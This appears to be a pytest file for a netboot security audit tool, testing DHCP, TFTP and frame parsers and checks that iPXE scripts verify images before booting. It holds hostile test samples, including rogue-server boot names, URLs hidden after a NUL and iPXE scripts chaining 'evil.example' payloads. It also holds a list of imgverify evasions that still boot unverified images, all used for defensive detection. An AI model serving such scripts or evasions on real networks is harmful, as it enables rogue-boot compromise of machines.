"""DHCPv4, DHCPv6, TFTP and frame codecs; loader identification; the BPF filter."""

from __future__ import annotations

import ipaddress
import struct

import pytest

from tests.audit import packets
from trustboot.audit import dhcp4, dhcp6, frames, loaders, probe, tftp
from trustboot.audit.errors import MalformedPacket

MAC = bytes.fromhex("02aabbccddee")
UUID = bytes(range(16))


# -- DHCPv4 ------------------------------------------------------------------------------------


@pytest.mark.parametrize("arch", list(dhcp4.ARCHES.values()), ids=list(dhcp4.ARCHES))
def test_discover_looks_like_a_pxe_client(arch: dhcp4.Arch) -> None:
    raw = dhcp4.build_discover(mac=MAC, xid=0x12345678, arch=arch, uuid=UUID)
    pkt = dhcp4.parse(raw)
    assert len(raw) >= 300
    assert (pkt.op, pkt.xid, pkt.flags, pkt.chaddr) == (1, 0x12345678, 0x8000, MAC)
    assert pkt.message_type == dhcp4.DISCOVER
    assert pkt.vendor_class == arch.vendor_class
    assert pkt.client_arch == arch.code
    assert pkt.options[dhcp4.OPT_CLIENT_NII] == arch.nii
    assert pkt.options[dhcp4.OPT_CLIENT_UUID] == b"\x00" + UUID
    prl = pkt.options[dhcp4.OPT_PARAM_REQUEST]
    assert dhcp4.OPT_TFTP_SERVER in prl and dhcp4.OPT_BOOTFILE in prl and dhcp4.OPT_VENDOR in prl
    assert dhcp4.OPT_USER_CLASS not in pkt.options
    assert not pkt.anomalies


def test_ipxe_discover_carries_user_class_and_option_175() -> None:
    pkt = dhcp4.parse(dhcp4.build_discover(mac=MAC, xid=1, arch=dhcp4.ARCHES["bios"], uuid=UUID,
                                           ipxe=True))
    assert pkt.user_class == "iPXE"
    encap = pkt.options[dhcp4.OPT_IPXE_ENCAP]
    assert bytes([0x13, 1, 1]) in encap  # HTTP feature


def test_pxe_request_for_port_4011_names_the_boot_item() -> None:
    raw = dhcp4.build_pxe_request(mac=MAC, xid=7, arch=dhcp4.ARCHES["bios"], uuid=UUID,
                                  ciaddr="192.0.2.50", boot_item=b"\x80\x00\x00\x00")
    pkt = dhcp4.parse(raw)
    assert pkt.message_type == dhcp4.REQUEST and pkt.ciaddr == "192.0.2.50"
    assert pkt.flags == 0
    assert pkt.pxe_vendor_options() == {dhcp4.PXE_BOOT_ITEM: b"\x80\x00\x00\x00"}


def test_offer_fields_from_header_and_options() -> None:
    raw = packets.dhcp_reply(xid=9, chaddr=MAC, sname=b"tftp.example", file=b"pxelinux.0",
                             options=[(66, b"192.0.2.7"), (67, b"undionly.kpxe\x00")])
    pkt = dhcp4.parse(raw)
    assert (pkt.sname, pkt.file) == ("tftp.example", "pxelinux.0")
    assert (pkt.tftp_server_option, pkt.bootfile_option) == ("192.0.2.7", "undionly.kpxe")
    assert pkt.server_id == "192.0.2.1" and pkt.message_type_name == "OFFER"
    ev = pkt.evidence()
    assert ev["option_66_tftp_server"] == "192.0.2.7" and ev["file"] == "pxelinux.0"


def test_split_options_are_concatenated() -> None:
    raw = packets.dhcp_reply(xid=1, chaddr=MAC, options=[(67, b"boot/"), (67, b"ipxe.efi")])
    assert dhcp4.parse(raw).bootfile_option == "boot/ipxe.efi"


def test_a_joined_option_is_kept_whole_up_to_its_cap_and_cut_past_it() -> None:
    name = bytes(range(0x41, 0x5B)) * 100  # 2600 bytes in 255-byte parts
    parts = [(67, name[i : i + 255]) for i in range(0, len(name), 255)]
    under = dhcp4.parse(packets.dhcp_reply(xid=1, chaddr=MAC, options=parts[:8]))
    assert under.options[67] == name[:8 * 255] and not any("keeps" in a for a in
                                                           under.anomalies)
    over = dhcp4.parse(packets.dhcp_reply(xid=1, chaddr=MAC, options=parts))
    assert over.options[67] == name[:dhcp4.MAX_OPTION_VALUE]
    assert f"option 67 is 2600 bytes in 11 parts: the audit keeps its first " \
        f"{dhcp4.MAX_OPTION_VALUE}" in over.anomalies
    assert over.first_instances[67] == name[:255]


def test_option_overload_reads_options_from_file_and_sname() -> None:
    file_field = packets.opt(67, b"over.kpxe") + b"\xff"
    sname_field = packets.opt(66, b"192.0.2.8") + b"\xff"
    raw = packets.dhcp_reply(xid=1, chaddr=MAC, file=file_field, sname=sname_field,
                             options=[(52, b"\x03")])
    pkt = dhcp4.parse(raw)
    assert pkt.overload == 3 and pkt.file == "" and pkt.sname == ""
    assert pkt.bootfile_option == "over.kpxe" and pkt.tftp_server_option == "192.0.2.8"


def test_hostile_strings_are_escaped() -> None:
    raw = packets.dhcp_reply(xid=1, chaddr=MAC, file=b"\x1b[31mevil\\\xff",
                             options=[(67, b"a\nb")])
    pkt = dhcp4.parse(raw)
    assert pkt.file == "\\x1b[31mevil\\\\\\xff"
    assert pkt.bootfile_option == "a\\x0ab"


def test_a_boot_name_is_read_as_clients_read_it_up_to_the_nul() -> None:
    """iPXE (fetch_string_setting) and EDK2 read option 67 as a C string: the name ends
    at the first NUL and its bytes are used unescaped. The escaped text is for display."""
    raw = packets.dhcp_reply(xid=1, chaddr=MAC, options=[(67, b"undionly.kpxe\0junk"),
                                                         (66, b"192.0.2.6\0x")])
    pkt = dhcp4.parse(raw)
    assert pkt.option_string(67) == (b"undionly.kpxe", "undionly.kpxe")
    assert pkt.bootfile_option == "undionly.kpxe" and pkt.tftp_server_option == "192.0.2.6"
    assert pkt.after_nul == {"option 67": (4, "junk"), "option 66": (1, "x")}
    assert any(a.startswith("option 67 has 4 bytes after a NUL") for a in pkt.anomalies)
    assert pkt.evidence()["after_nul"] == {"option 67": "junk", "option 66": "x"}
    high = dhcp4.parse(packets.dhcp_reply(xid=1, chaddr=MAC, file=b"\xe9vil\0\0\0",
                                          options=[(67, b"b\xe9d.efi")]))
    assert high.option_string(67) == (b"b\xe9d.efi", "b\\xe9d.efi")
    assert (high.file_bytes, high.file) == (b"\xe9vil", "\\xe9vil")
    assert not high.after_nul and not high.anomalies  # NUL padding is no hidden text


@pytest.mark.parametrize("value", [b"undionly.kpxe", b"undionly.kpxe\0", b"undionly.kpxe\0\0"])
def test_an_ordinary_or_nul_terminated_boot_name_has_no_anomaly(value: bytes) -> None:
    # some servers (Windows DHCP) end string options with a NUL: nothing is hidden there
    pkt = dhcp4.parse(packets.dhcp_reply(xid=1, chaddr=MAC, options=[(67, value)]))
    assert pkt.option_string(67) == (b"undionly.kpxe", "undionly.kpxe")
    assert not pkt.after_nul and not pkt.anomalies


def test_the_bootfile_url_is_read_up_to_the_nul() -> None:
    raw = packets.advertise(xid=3, client_duid=dhcp6.duid_ll(MAC), url=None) + packets.opt6(
        dhcp6.OPT_BOOTFILE_URL, b"https://boot.example/ok.efi\0http://evil/x")
    msg = dhcp6.parse(raw)
    assert msg.bootfile_url == "https://boot.example/ok.efi"
    assert msg.url_tails == [(13, "http://evil/x")]
    assert any("13 bytes after a NUL" in a for a in msg.anomalies)


def advertise_urls(*urls: bytes) -> dhcp6.Dhcp6Message:
    raw = packets.advertise(xid=3, client_duid=dhcp6.duid_ll(MAC), url=None)
    return dhcp6.parse(raw + b"".join(packets.opt6(dhcp6.OPT_BOOTFILE_URL, u) for u in urls))


def test_every_bootfile_url_instance_is_read() -> None:
    """iPXE uses the first option 59, EDK2 the last: both are URLs a client boots."""
    msg = advertise_urls(b"https://boot.example/ok.efi", b"http://evil.example/x.efi")
    assert msg.bootfile_url_strings() == [
        (b"https://boot.example/ok.efi", "https://boot.example/ok.efi"),
        (b"http://evil.example/x.efi", "http://evil.example/x.efi")]
    assert msg.bootfile_url == "https://boot.example/ok.efi"  # the first, as before
    assert "option 59 sent 2 times: iPXE uses the first, EDK2 the last; each is judged" in \
        msg.anomalies
    assert msg.evidence()["option_59_bootfile_urls"] == [
        "https://boot.example/ok.efi", "http://evil.example/x.efi"]
    one = advertise_urls(b"https://boot.example/ok.efi")
    assert len(one.bootfile_url_strings()) == 1 and not one.anomalies
    assert "option_59_bootfile_urls" not in one.evidence()
    many = advertise_urls(*(f"https://boot.example/{i}".encode() for i in range(30)))
    kept = [t for _raw, t in many.bootfile_url_strings()]
    assert len(kept) == dhcp6.MAX_BOOTFILE_URLS and kept[-1] == "https://boot.example/29"
    assert any("30 distinct boot file URLs" in a for a in many.anomalies)


def test_a_dhcp4_option_repeated_in_an_overloaded_field_keeps_its_first_instance() -> None:
    # EDK2 looks in the options field first and takes the first instance it finds; RFC
    # 3396 clients join it with the part in the overloaded file field.
    file_field = packets.opt(67, b"ample/boot.ipxe") + b"\xff"
    pkt = dhcp4.parse(packets.dhcp_reply(xid=1, chaddr=MAC, file=file_field,
                                         options=[(52, b"\x01"), (67, b"https://boot.ex")]))
    assert pkt.bootfile_option == "https://boot.example/boot.ipxe"
    assert pkt.ipxe_text_option(67) == "https://boot.ex"
    assert "option 67 sent 2 times: RFC 3396 clients join the parts, iPXE and EDK2 use " \
        "the first" in pkt.anomalies


def test_a_huge_bootfile_url_is_cut_when_decoded() -> None:
    url = b"https://boot.example/" + b"\x01" * 60000
    raw = packets.advertise(xid=3, client_duid=dhcp6.duid_ll(MAC), url=None) + packets.opt6(
        dhcp6.OPT_BOOTFILE_URL, url)
    msg = dhcp6.parse(raw)
    assert msg.bootfile_url == dhcp4.safe_text(url[:dhcp4.MAX_OPTION_VALUE])
    assert msg.bootfile_url is msg.bootfile_url  # decoded once
    assert f"option 59 is {len(url)} bytes: the audit keeps its first " \
        f"{dhcp4.MAX_OPTION_VALUE}" in msg.anomalies


def test_a_tftp_request_carries_the_name_s_bytes() -> None:
    name = b"b\xe9d\x1b.efi"
    assert tftp.build_request(tftp.RRQ, name) == b"\x00\x01" + name + b"\x00octet\x00"
    # text from wire_text is the same name: how it passes through code that takes text
    assert tftp.build_request(tftp.RRQ, tftp.wire_text(name)) == tftp.build_request(
        tftp.RRQ, name)
    assert tftp.build_request(tftp.RRQ, "caf\u00e9") == b"\x00\x01caf\xc3\xa9\x00octet\x00"
    with pytest.raises(ValueError, match="NUL"):
        tftp.build_request(tftp.RRQ, b"a\0b")


@pytest.mark.parametrize(("data", "reason"), [
    (b"", "too short"),
    (b"\x02" * 235, "too short"),
    (b"\x07" + b"\0" * 239, "neither BOOTREQUEST nor BOOTREPLY"),
    (b"\x00" + b"\0" * 239, "op 0 is neither BOOTREQUEST nor BOOTREPLY"),
    (b"\x02" + b"\0" * 65535, "longer than any UDP payload"),
])
def test_malformed_dhcp4(data: bytes, reason: str) -> None:
    with pytest.raises(MalformedPacket, match=reason):
        dhcp4.parse(data)


@pytest.mark.parametrize(("tail", "reason"), [
    (b"\xfe\x40xx\xff", "options: option 254 length 64 runs past the end"),
    (b"\xfe", "options: option 254 has no length byte"),
    # one byte short: the value would end just past the packet
    (b"\xfe\x02x", "options: option 254 length 2 runs past the end"),
])
def test_a_cut_short_option_ends_the_options_as_in_ipxe(tail: bytes, reason: str) -> None:
    """iPXE (dhcpopts.c) stops at an option that runs past the end and uses the ones before
    it: so does the audit, or a rogue server hid its offer by appending one broken byte."""
    head = packets.dhcp_reply(xid=1, chaddr=MAC, options=[(67, b"evil.kpxe")])[:-1]
    pkt = dhcp4.parse(head + tail)
    assert pkt.message_type_name == "OFFER" and pkt.server_id == "192.0.2.1"
    assert pkt.bootfile_option == "evil.kpxe"
    assert pkt.damage == reason
    assert dhcp4.parse(head + b"\xff").damage is None


def test_a_broken_overloaded_field_does_not_hide_the_reply() -> None:
    # iPXE ignores option 52 and reads the file field as text.
    raw = packets.dhcp_reply(xid=1, chaddr=MAC, file=b"\x01\xff", options=[(52, b"\x01")])
    pkt = dhcp4.parse(raw)
    assert pkt.message_type_name == "OFFER" and pkt.overload == 1
    assert pkt.damage == "overloaded file field: option 1 length 255 runs past the end"


def test_an_overloaded_sname_is_read_as_text_as_ipxe_does() -> None:
    # option 52 = 2 (sname holds options): RFC clients read options there, iPXE reads the
    # field as the TFTP server's name. The audit must follow the name iPXE would use.
    raw = packets.dhcp_reply(xid=1, chaddr=MAC, sname=b"192.0.2.66", file=b"evil.kpxe",
                             options=[(52, b"\x02")])
    pkt = dhcp4.parse(raw)
    assert pkt.overload == 2 and pkt.sname == ""
    assert pkt.ipxe_sname == "192.0.2.66" and pkt.file == "evil.kpxe"
    assert pkt.evidence()["sname_read_as_text_by_ipxe"] == "192.0.2.66"


def test_an_invalid_overload_option_overloads_nothing() -> None:
    # option 52 must be one byte 1, 2 or 3: two bytes starting with 1 do not make the
    # file field options (it stays the boot file name iPXE reads)
    raw = packets.dhcp_reply(xid=1, chaddr=MAC, file=b"pxelinux.0", options=[(52, b"\x01\x00")])
    pkt = dhcp4.parse(raw)
    assert pkt.overload == 0 and pkt.file == "pxelinux.0"
    assert "invalid option 52 value 0100" in pkt.anomalies


def test_header_and_option_lengths_that_lie_are_anomalies_not_values() -> None:
    # hlen 200: chaddr stays the 16 bytes of its field (not the sname after it)
    raw = bytearray(packets.dhcp_reply(xid=1, chaddr=MAC, sname=b"S" * 20,
                                       options=[(93, b"\x07")]))
    raw[2] = 200
    pkt = dhcp4.parse(bytes(raw))
    assert pkt.chaddr == MAC + bytes(10) and "hlen 200 > 16" in pkt.anomalies
    assert pkt.client_arch is None  # option 93 needs two bytes
    # option 53 of two bytes is no message type; option 54 of five bytes is no address
    raw2 = packets.dhcp_reply(xid=1, chaddr=MAC, server_id=None,
                              raw_options=packets.opt(53, b"\x02\x02")
                              + packets.opt(54, b"\xc0\x00\x02\x01\x01"))
    pkt2 = dhcp4.parse(raw2)
    assert pkt2.message_type is None and pkt2.message_type_name == "invalid"
    assert pkt2.server_id is None
    assert {"option 53 has length 2", "option 54 has length 5"} <= set(pkt2.anomalies)
    assert pkt2.evidence()["option_54_server_id"] is None


def test_recoverable_oddities_are_anomalies() -> None:
    raw = packets.dhcp_reply(xid=1, chaddr=MAC, file=b"a\0junk")[:-1]  # no END option
    pkt = dhcp4.parse(raw)
    assert "options field has no END option" in pkt.anomalies
    assert "bytes after the NUL in the file field" in pkt.anomalies


def test_pxe_vendor_option_described() -> None:
    menu = struct.pack("!HB", 0x8000, 4) + b"Boot"
    vendor = packets.opt(6, b"\x03") + packets.opt(9, menu) + packets.opt(10, b"\x00PXE") + b"\xff"
    pkt = dhcp4.parse(packets.dhcp_reply(xid=1, chaddr=MAC, options=[(43, vendor)]))
    subs = pkt.pxe_vendor_options()
    assert subs is not None
    described = dhcp4.describe_pxe_vendor(subs)
    assert described["boot_menu"] == [{"type": 0x8000, "description": "Boot"}]
    assert dhcp4.first_boot_item(subs) == b"\x80\x00\x00\x00"


def test_pxe_menu_before_a_cut_short_sub_option_still_counts() -> None:
    # iPXE finds the boot menu (43.9) in an encapsulated block the way it finds any option:
    # a broken sub-option after it does not hide the menu the audit must follow.
    menu = struct.pack("!HB", 0x8000, 4) + b"Boot"
    vendor = packets.opt(6, b"\x03") + packets.opt(9, menu) + b"\x0a\x40PXE"
    pkt = dhcp4.parse(packets.dhcp_reply(xid=1, chaddr=MAC, options=[(43, vendor)]))
    subs = pkt.pxe_vendor_options()
    assert subs is not None and dhcp4.first_boot_item(subs) == b"\x80\x00\x00\x00"


# -- DHCPv6 ------------------------------------------------------------------------------------


def test_solicit_asks_for_the_boot_file_url() -> None:
    raw = dhcp6.build_solicit(mac=MAC, xid=0xABCDEF, arch=dhcp4.ARCHES["efi-x64"], iaid=5)
    msg = dhcp6.parse(raw)
    assert msg.msg_type == dhcp6.SOLICIT and msg.xid == 0xABCDEF
    oro = msg.first(dhcp6.OPT_ORO)
    assert oro is not None and dhcp6.OPT_BOOTFILE_URL in struct.unpack(f"!{len(oro)//2}H", oro)
    assert msg.first(dhcp6.OPT_CLIENT_ARCH) == b"\x00\x07"
    assert msg.client_duid == dhcp6.duid_ll(MAC).hex()


def test_advertise_decoded() -> None:
    raw = packets.advertise(xid=3, client_duid=dhcp6.duid_ll(MAC), url="http://[2001:db8::1]/x")
    msg = dhcp6.parse(raw)
    assert msg.type_name == "ADVERTISE"
    assert msg.bootfile_url == "http://[2001:db8::1]/x"
    assert msg.addresses == ["2001:db8::100"]
    assert msg.server_duid_mac == "02:74:62:00:00:01"
    assert not msg.anomalies


@pytest.mark.parametrize(("data", "reason"), [
    (b"\x02\x00", "too short"),
    (b"\x02\x00\x00", "too short for a DHCPv6 header"),
    (b"\x0d" + b"\0" * 20, "relay message header"),
    (b"\x0d" + b"\0" * 32, "relay message header"),  # one byte short of 34
    (b"\x02\0\0\1" + b"\x00\x63\x00\x00" * (dhcp6.MAX_OPTIONS + 1), "too many options"),
])
def test_malformed_dhcp6(data: bytes, reason: str) -> None:
    with pytest.raises(MalformedPacket, match=reason):
        dhcp6.parse(data)


@pytest.mark.parametrize(("tail", "reason"), [
    (b"\x00\x3b\x00\x20http", "option 59 length 32 runs past the end"),
    (b"\x00", "truncated option header"),
])
def test_a_cut_short_dhcp6_option_ends_the_options_as_in_ipxe(tail: bytes, reason: str
                                                               ) -> None:
    # iPXE's dhcpv6_option() stops at the cut and finds the options before it.
    good = packets.advertise(xid=1, client_duid=b"\x00\x03\x00\x01" + MAC,
                             url="http://[2001:db8::66]/evil.efi")
    msg = dhcp6.parse(good + tail)
    assert msg.type_name == "ADVERTISE" and msg.damage == reason
    assert msg.bootfile_url == "http://[2001:db8::66]/evil.efi"
    assert dhcp6.parse(good).damage is None


@pytest.mark.parametrize(("duid", "mac"), [
    (struct.pack("!HH", 3, 1) + MAC, "02:aa:bb:cc:dd:ee"),  # DUID-LL, Ethernet
    (struct.pack("!HHI", 1, 1, 7) + MAC, "02:aa:bb:cc:dd:ee"),  # DUID-LLT, Ethernet
    (struct.pack("!HH", 3, 6) + MAC, None),  # IEEE 802 hardware type: not comparable
    (struct.pack("!HH", 3, 1) + MAC + b"\x01\x02", None),  # 8 bytes: no Ethernet MAC
    (struct.pack("!HH", 2, 1) + MAC, None),  # DUID-EN holds no MAC at all
])
def test_the_mac_inside_a_server_duid(duid: bytes, mac: str | None) -> None:
    # compared with the sender's MAC (server-identity-conflict): only an Ethernet address
    raw = bytes([dhcp6.ADVERTISE]) + b"\0\0\1" + packets.opt6(2, duid)
    assert dhcp6.parse(raw).server_duid_mac == mac


def test_an_advertise_without_a_server_identifier_is_an_anomaly() -> None:
    raw = bytes([dhcp6.ADVERTISE]) + b"\0\0\1" + packets.opt6(1, dhcp6.duid_ll(MAC))
    assert "0 server identifier options" in dhcp6.parse(raw).anomalies


def test_dhcp6_nested_status_and_params() -> None:
    ia = struct.pack("!III", 1, 0, 0) + packets.opt6(13, b"\x00\x02no addresses")
    raw = (bytes([7]) + b"\0\0\1" + packets.opt6(3, ia)
           + packets.opt6(60, b"\x00\x03a=b\x00\x01c")
           + packets.opt6(2, b"\x00\x01") + packets.opt6(2, b"\x00\x02"))
    msg = dhcp6.parse(raw)
    assert msg.status == [(2, "no addresses")]
    assert msg.bootfile_params == ["a=b", "c"]
    assert "2 server identifier options" in msg.anomalies


# -- TFTP ----------------------------------------------------------------------------------


def test_tftp_round_trip() -> None:
    rrq = tftp.parse(tftp.build_request(tftp.RRQ, "boot.ipxe", {"blksize": "1428"}))
    assert (rrq.filename, rrq.mode, rrq.options) == ("boot.ipxe", "octet", {"blksize": "1428"})
    data = tftp.parse(tftp.build_data(70000, b"abc"))
    assert (data.opcode, data.block, data.data) == (tftp.DATA, 70000 & 0xFFFF, b"abc")
    err = tftp.parse(tftp.build_error(1, "File not found"))
    assert (err.error_code, err.error_message) == (1, "File not found")
    oack = tftp.parse(b"\x00\x06tsize\x00123\x00")
    assert oack.options == {"tsize": "123"}


@pytest.mark.parametrize("data", [
    b"", b"\x00", b"\x00\x09", b"\x00\x03\x00", b"\x00\x04\x00", b"\x00\x01file",
    b"\x00\x01file\x00", b"\x00\x06tsize\x00", b"\x00\x05\x00",
])
def test_malformed_tftp(data: bytes) -> None:
    with pytest.raises(MalformedPacket):
        tftp.parse(data)


@pytest.mark.parametrize(("data", "reason"), [
    (b"\x00\x01file\x00octet\x00x", "not NUL-terminated"),  # the last field is cut
    (b"\x00\x01file\x00octet\x00blksize\x00", "option without a value"),
    (b"\x00\x01" + b"f\x00" * 66, "too many fields"),
    (b"\x00\x04\x00\x01\x00", "ACK of 3 bytes"),
])
def test_malformed_tftp_reasons(data: bytes, reason: str) -> None:
    with pytest.raises(MalformedPacket, match=reason):
        tftp.parse(data)


def test_a_tftp_error_message_is_cut_to_512_bytes() -> None:
    assert len(tftp.parse(tftp.build_error(0, "A" * 5000)).error_message) == 512


# -- frames ------------------------------------------------------------------------------------


def test_udp4_frame_round_trip_and_checksums() -> None:
    frame = frames.udp4_frame(src_mac=MAC, dst_mac=frames.BROADCAST_MAC, src_ip="0.0.0.0",
                              dst_ip="255.255.255.255", sport=68, dport=67, payload=b"hello")
    assert frames.checksum(frame[14:34]) == 0  # IPv4 header checksum verifies
    parsed = frames.parse_frame(frame)
    assert parsed is not None
    assert (parsed.src_ip, parsed.dst_ip, parsed.sport, parsed.dport, parsed.payload) == (
        "0.0.0.0", "255.255.255.255", 68, 67, b"hello")


def test_udp6_frame_and_neighbour_advert() -> None:
    ll = frames.link_local_from_mac(MAC)
    assert ll == "fe80::aa:bbff:fecc:ddee"
    frame = frames.udp6_frame(src_mac=MAC, dst_mac=frames.multicast_mac("ff02::1:2"),
                              src_ip=ll, dst_ip="ff02::1:2", sport=546, dport=547, payload=b"x")
    parsed = frames.parse_frame(frame)
    assert parsed is not None and parsed.family == 6 and parsed.dport == 547
    assert frame[:6] == bytes.fromhex("333300010002")
    na = frames.parse_frame(frames.neighbour_advert(src_mac=MAC, dst_mac=MAC, target=ll,
                                                    dst_ip="fe80::1"))
    assert na is not None and na.icmp_type == frames.ICMPV6_NA


@pytest.mark.parametrize("frame", [
    bytes(14) + b"\x45",  # too short: not IP
    b"\xff" * 12 + b"\x08\x00" + b"\x45\x00\x00\x10" + b"\0" * 5 + b"\x11" + b"\0" * 10,
])
def test_broken_ip_is_malformed_or_ignored(frame: bytes) -> None:
    try:
        assert frames.parse_frame(frame) is None
    except MalformedPacket:
        pass


def test_a_neighbour_solicitation_too_short_for_its_target_has_none() -> None:
    # from the segment: 10 bytes of ICMPv6 type 135 must not raise (an address needs 16)
    short = frames.Frame(MAC, MAC, 6, "fe80::1", "ff02::1", frames.IPPROTO_ICMPV6, 0, 0,
                         bytes([frames.ICMPV6_NS]) + bytes(9), icmp_type=frames.ICMPV6_NS)
    assert frames.neighbour_solicitation_target(short) is None


def _udp4(payload: bytes = b"x" * 40) -> bytearray:
    return bytearray(packets.offer_frame(payload))


def _with_ip_total(frame: bytearray, delta: int) -> bytes:
    struct.pack_into("!H", frame, 16, struct.unpack_from("!H", frame, 16)[0] + delta)
    return bytes(frame)


def _with_udp_length(frame: bytearray, at: int, value: int) -> bytes:
    struct.pack_into("!H", frame, at, value)
    return bytes(frame)


def _udp6() -> bytearray:
    return bytearray(frames.udp6_frame(src_mac=MAC, dst_mac=MAC, src_ip="fe80::1",
                                       dst_ip="fe80::2", sport=547, dport=546,
                                       payload=b"y" * 40))


@pytest.mark.parametrize(("frame", "reason"), [
    # IPv4 total length beyond the frame (the UDP header itself is consistent)
    (_with_ip_total(_udp4(), 100), "IPv4 header lengths are inconsistent"),
    # a first fragment (more fragments, offset 0) is not a whole datagram
    (packets.fragment(packets.offer_frame(b"x" * 40), 16)[0], "fragmented IPv4 datagram"),
    # UDP length below its own header, and beyond the IP payload
    (_with_udp_length(_udp4(), 14 + 20 + 4, 7), "UDP length field is inconsistent"),
    (_with_udp_length(_udp4(), 14 + 20 + 4, 8 + 41), "UDP length field is inconsistent"),
    # IPv6 payload length beyond the frame
    (bytes(_udp6()[:-1]), "IPv6 payload length runs past the frame"),
], ids=["ip-total", "first-fragment", "udp-below-header", "udp-past-ip", "ipv6-plen"])
def test_ip_and_udp_lengths_that_lie_are_malformed(frame: bytes, reason: str) -> None:
    with pytest.raises(MalformedPacket, match=reason):
        frames.parse_frame(frame)


# -- loaders -----------------------------------------------------------------------------------


def _pe(signed: bool) -> bytes:
    pe = bytearray(1024)
    pe[0:2] = b"MZ"
    struct.pack_into("<I", pe, 0x3C, 0x80)
    pe[0x80:0x84] = b"PE\0\0"
    opt = 0x80 + 24
    struct.pack_into("<H", pe, opt, 0x20B)
    struct.pack_into("<I", pe, opt + 108, 16)  # NumberOfRvaAndSizes
    if signed:
        struct.pack_into("<II", pe, opt + 112 + 4 * 8, 0x400, 0x200)
    return bytes(pe)


def test_identify_loaders() -> None:
    assert loaders.identify(b"#!ipxe\nchain http://x/y\n").imgverify is False
    # The word in a comment, an echo or a URL is not a verification iPXE runs.
    for fake in (b"#!ipxe\n# every image passes imgverify\nchain https://x/y\n",
                 b"#!ipxe\necho imgtrust on\nchain https://x/imgverify.efi\n",
                 b"#!ipxe\nimgtrust --allow\nchain https://x/y\n"):
        assert loaders.identify(fake).imgverify is False, fake
    assert loaders.identify(b"#!ipxe\n:go imgtrust --permanent\nchain https://x/y\n"
                            ).imgverify is True
    script = loaders.identify(b"#!ipxe\nimgtrust --permanent\nchain https://a/b\n")
    assert script.kind == "ipxe-script" and script.imgverify and script.urls == ["https://a/b"]
    assert loaders.identify(b"\0" * 10 + b"PXE->EB:" + b"\0").kind == "ipxe"
    assert loaders.identify(_pe(False) + b"iPXE 1.21.1+ (g123) https://ipxe.org").ipxe_version \
        == "1.21.1+"
    assert loaders.identify(b"xxPXELINUX 6.04").kind == "pxelinux"
    assert loaders.identify(_pe(True)).pe_signed is True
    assert loaders.identify(_pe(False)).pe_signed is False
    assert loaders.identify(b"\x7fELF\x02").kind == "elf"
    assert loaders.identify(bytes(range(256))).kind == "unknown"
    assert loaders.identify(b"DEFAULT linux\n").kind == "text"


@pytest.mark.parametrize("magic", [b"#!ipxe\n", b"#!gpxe\n", b"#!gpxe \n", b"#!ipxe\r\n"])
def test_what_ipxe_runs_as_a_script_is_checked_as_one(magic: bytes) -> None:
    """iPXE's script_probe() also runs '#!gpxe' scripts: the audit's script checks see
    them (before, '#!gpxe' was 'text' and nothing was checked)."""
    from tests.audit.test_checks import fetched, observe, offer, rules

    script = magic + b"kernel http://evil.example/vmlinuz\nboot\n"
    info = loaders.identify(script)
    assert (info.kind, info.ipxe, info.script, info.imgverify) == (
        "ipxe-script", True, True, False)
    found = rules(observe(offers=[offer(file="boot.ipxe")],
                          fetched=[fetched("192.0.2.1", "boot.ipxe", script)]))
    assert {"script-without-imgverify", "cleartext-boot-url"} <= set(found)


@pytest.mark.parametrize("head", [b"#!gpxeX\n", b"#!GPXE\n", b"#!IPXE\n",
                                  b"\xef\xbb\xbf#!ipxe\n", b"#!ipxe"])
def test_what_ipxe_does_not_run_as_a_script_is_not_judged_as_one(head: bytes) -> None:
    """iPXE compares the magic byte for byte at offset 0 and wants a space after it: a
    BOM, another case or another 7th byte is not run as a script (a text file, or with
    a BOM an unrecognised one)."""
    info = loaders.identify(head + b"kernel http://evil.example/vmlinuz\nboot\n")
    assert info.kind in ("text", "unknown") and not info.ipxe and info.imgverify is None


# Scripts that call imgverify but never let it stop an unverified boot (from a review).
EVASIONS = {
    "failure-skipped": (b"#!ipxe\nkernel https://evil.example/vmlinuz\nimgverify vmlinuz "
                        b"https://evil.example/x.sig || goto go\n:go\nboot\n",
                        "a failed imgverify does not stop the script"),
    "failure-skipped-echo": (b"#!ipxe\nkernel https://evil.example/vmlinuz\nimgverify "
                             b"vmlinuz https://evil.example/x.sig || echo bad\nboot\n",
                             "a failed imgverify does not stop the script"),
    "failure-skipped-semicolon": (b"#!ipxe\nkernel https://evil.example/vmlinuz\nimgverify "
                                  b"vmlinuz https://evil.example/x.sig ;\nboot\n",
                                  "a failed imgverify does not stop the script"),
    "jumped-over": (b"#!ipxe\ngoto go\nimgverify a a.sig\n:go\nkernel "
                    b"https://evil.example/vmlinuz\nboot\n", "line 6: 'boot' can execute"),
    "never-run": (b"#!ipxe\niseq a b && imgverify a a.sig ||\nkernel "
                  b"https://evil.example/vmlinuz\nboot\n", "line 4: 'boot' can execute"),
    "after-boot": (b"#!ipxe\nkernel https://evil.example/vmlinuz\nboot\n"
                   b"imgverify vmlinuz vmlinuz.sig\n", "line 3: 'boot' can execute"),
    "initrd-unverified": (b"#!ipxe\nimgtrust --permanent\nkernel https://a/k\ninitrd "
                          b"https://a/i\nimgverify k https://a/k.sig\nboot\n",
                          "'i' (line 4) is registered and not verified"),
}


@pytest.mark.parametrize("name", sorted(EVASIONS))
def test_an_imgverify_that_does_not_guard_the_boot_is_no_verification(name: str) -> None:
    """The script calls imgverify, but on some path an unverified image still runs: the
    finding fires and says where and how (the path, a skipped failure)."""
    from tests.audit.test_checks import fetched, observe, offer, rules
    from trustboot.audit.policy import Policy

    script, says = EVASIONS[name]
    info = loaders.identify(script)
    assert info.kind == "ipxe-script" and info.imgverify is False, info
    assert says in (info.unguarded or ""), info.unguarded
    found = rules(observe(offers=[offer(file="boot.ipxe")],
                          fetched=[fetched("192.0.2.1", "boot.ipxe", script)]), Policy())
    [finding] = found["script-without-imgverify"]
    assert says in finding.message and finding.evidence["unguarded"] == info.unguarded
    assert "(path: line 1 -> " in finding.message


@pytest.mark.parametrize("first", ["pciscan dev", "usbscan dev", "console", "colour 7",
                                   "cpair 0", "fcstat", "iwstat", "ibstat", "nosuchcmd"])
def test_a_command_that_may_fail_or_not_does_not_end_the_path(first: str) -> None:
    """Commands a build may lack or may run (pciscan, console on UEFI ...; the model once
    lacked them, and a command it does not know, nosuchcmd, is the same): one of them
    before an unverified chain succeeds on such a build and the chain runs (a review
    booted it under OVMF). Taking it as 'command not found', which ends the path, called
    that script guarded; a served script may go on past it."""
    script = f"#!ipxe\n{first}\nchain https://evil.example/payload.efi\n".encode()
    info = loaders.identify(script)
    assert info.kind == "ipxe-script" and info.imgverify is False, info
    assert "'chain' can execute" in (info.unguarded or ""), info.unguarded



@pytest.mark.parametrize("line", ["imgtrust ${o}", "imgtrust --permanent ${o}",
